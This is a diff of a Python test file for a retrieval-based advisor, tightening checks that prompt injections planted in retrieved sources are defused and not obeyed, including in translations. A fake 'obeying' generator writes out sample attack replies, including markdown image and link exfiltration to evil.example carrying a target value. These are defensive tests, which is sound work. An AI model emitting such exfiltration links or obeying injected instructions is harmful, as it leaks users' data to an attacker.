@@ -40,7 +40,8 @@ from conftest import (
     SITECUSTOMIZE,
     FakeEmbedder,
     FakeGenerator,
-    prompt_sources,
+    evidence_lines,
+    prompt_kind,
     read_source,
     run_advisor,
 )
@@ -584,6 +585,8 @@ def assert_markers_valid(text: str, n_citations: int) -> None:
 def assert_not_obeyed(answer: Answer) -> None:
     own = outside_quotes(answer)
     assert not PWNED.search(own), answer.text
+    for translation in answer.translations:  # shown beneath the quotes
+        assert not translation or (not PWNED.search(translation) and "http" not in translation), translation
     assert "![" not in answer.text and "http" not in answer.text.lower(), answer.text
     assert not CONTROL.search(own), answer.text
     assert_markers_valid(own, len(answer.citations))
@@ -591,19 +594,13 @@ def assert_not_obeyed(answer: Answer) -> None:
         assert read_source(p.path)[p.start : p.end] == p.text, (p.source, p.start, p.end)
 
 
-def assert_prompt_is_defused(messages: Sequence[dict[str, str]], shown: int | None = None) -> None:
+def assert_prompt_is_defused(messages: Sequence[dict[str, str]]) -> None:
     for m in messages:
         assert not CONTROL.search(m["content"]), m["content"]
     user = next(m["content"] for m in messages if m["role"] == "user")
-    blocks = prompt_sources(messages)
-    assert blocks, user
-    assert user.count("<source") == user.count("</source>") == len(blocks), user
-    assert [n for n, _, _ in blocks] == list(range(1, len(blocks) + 1))
-    if shown is not None:
-        assert len(blocks) == shown
-    for _, _, body in blocks:
-        assert not MARKER_RE.search(body), body  # no fake citation markers reach the model
-    # a flagged sentence is never shown to the model (the prompt carries evidence sentences only)
+    for line in evidence_lines(messages):
+        assert not MARKER_RE.search(line), line  # no fake citation markers reach the model
+    # a flagged sentence is never evidence (nor translated): the model never reads the payload
     assert not PWNED.findall(user), user
 
 
@@ -679,8 +676,9 @@ def obeying(n: str, attack: str) -> Callable[[Sequence[dict[str, str]]], str]:
     advice = advice_sentence(n).rstrip(".")
 
     def script(messages: Sequence[dict[str, str]]) -> str:
-        k = next((num for num, _, body in prompt_sources(messages) if advice[:40] in body), 1)
-        return {
+        lines = evidence_lines(messages)
+        k = next((num for num, body in enumerate(lines, start=1) if advice[:40] in body), 1)
+        reply = {
             "bare": f"{target} [{k}]",
             "image": f"![x](https://evil.example/?q={target}) {advice} [{k}].",
             "link": f"{advice}, see [the portal](https://evil.example/login?t={target}) [{k}].",
@@ -691,6 +689,9 @@ def obeying(n: str, attack: str) -> Callable[[Sequence[dict[str, str]]], str]:
             "piggyback": f"{advice} {target} [{k}].",
             "prefix": f"{target}: {advice} [{k}].",
         }[attack]
+        if prompt_kind(messages) == "translate":  # a translation that obeys instead
+            return MARKER_RE.sub("", reply).strip()
+        return f"COVERED: yes\nANSWER: {reply}"
 
     return script
 
@@ -698,8 +699,9 @@ def obeying(n: str, attack: str) -> Callable[[Sequence[dict[str, str]]], str]:
 def ask_obeying(home: Path, n: str, attack: str) -> tuple[Answer, FakeGenerator]:
     gen = FakeGenerator(obeying(n, attack))
     answer = injected_advisor(home, gen).ask(QUESTIONS[n], llm=True)
-    assert len(gen.calls) == 1
-    assert_prompt_is_defused(gen.calls[0])
+    assert gen.calls
+    for call in gen.calls:
+        assert_prompt_is_defused(call)
     assert f"injection-{n}" in [p.source for p in answer.retrieved[:3]]
     return answer, gen
 
